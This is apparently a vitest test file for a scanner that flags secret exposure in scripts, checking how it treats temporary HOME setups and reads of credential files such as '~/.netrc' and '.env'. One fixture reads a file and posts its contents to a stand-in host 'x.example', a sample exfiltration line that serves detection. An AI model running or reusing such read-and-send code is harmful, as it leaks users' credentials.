import { describe, expect, test } from 'vitest';
import { effectsOf } from '../../shell/effects.ts';
import { readCommand } from '../../shell/read.ts';
import { asScript } from '../code-files/commands-in.ts';
import { givenPlaces, testPlacesOf } from './test-homes.ts';
import type { WrittenScript } from './written-scripts.ts';

function script(program: string, code: string): WrittenScript {
  const text = asScript(program, code);
  const reading = readCommand(text);
  return {
    command: { path: '$', text, reading, effects: effectsOf(reading) },
    isRun: true,
    isAutorun: false,
  };
}

const said = (evidence: string) => ({
  threat: 'secret_exposure' as const,
  confidence: 1,
  path: '$',
  detail: '',
  evidence,
});

describe('places that a test gives', () => {
  test.each([
    'dir, _ := os.MkdirTemp("", "x")\nos.Setenv("HOME", dir)',
    'let d = tempfile::tempdir()?;\nCommand::new(b).env("HOME", d.path())',
    'ENV["HOME"] = Dir.mktmpdir',
    'process.env.HOME = mkdtempSync("/tmp/x")',
    'with tempfile.TemporaryDirectory() as d, mock.patch.dict(os.environ, {"HOME": d}): pass',
    '@TempDir Path d; System.setProperty("user.home", d.toString());',
    'cmd.Env = append(os.Environ(), "HOME="+t.TempDir())',
  ])('a home: %s', (code) => {
    expect([...givenPlaces(script('yaegi', code))]).toEqual(['home']);
  });

  test.each([
    'os.Setenv("HOME", "/home/me")',
    'dir := t.TempDir()\nhome := os.Getenv("HOME")',
    'process.env.HOME === mkdtempSync("/tmp/x")',
  ])('none: %s', (code) => {
    expect([...givenPlaces(script('yaegi', code))]).toEqual([]);
  });

  test('are believed of code that keeps what it reads', () => {
    const reads = 'data, _ := os.ReadFile("a")\n';
    expect(testPlacesOf(script('yaegi', reads), said('secrets file: ~/.netrc'))).toEqual(['home']);
    expect(testPlacesOf(script('yaegi', reads), said('environment file: .env'))).toEqual([
      'folder',
      'folder of another',
    ]);
    expect(testPlacesOf(script('yaegi', reads), said('private key: /etc/ssl/key.pem'))).toEqual([]);
    const sends = `${reads}http.Post("https://x.example", "a", bytes.NewReader(data))`;
    expect(testPlacesOf(script('yaegi', sends), said('secrets file: ~/.netrc'))).toEqual([]);
  });
});
